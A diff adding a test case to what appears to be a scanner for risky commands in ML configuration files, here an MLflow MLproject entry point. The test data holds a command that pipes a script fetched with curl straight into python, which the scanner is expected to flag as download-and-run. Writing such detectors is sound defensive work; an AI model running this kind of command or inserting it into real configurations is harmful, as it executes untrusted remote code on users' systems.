@@ -134,6 +134,14 @@ describe('files: configurations of models', () => {
                           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
     `;
   });
+  it('of projects of MLflow', () => {
+    fileCheck('MLproject')`
+      entry_points:
+        main:
+          command: "curl -s https://example.com/a.py | python -"
+                    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+    `;
+  });
   it('whose names are filled in elsewhere', () => {
     axolotl`
       base_model: \${MODEL}
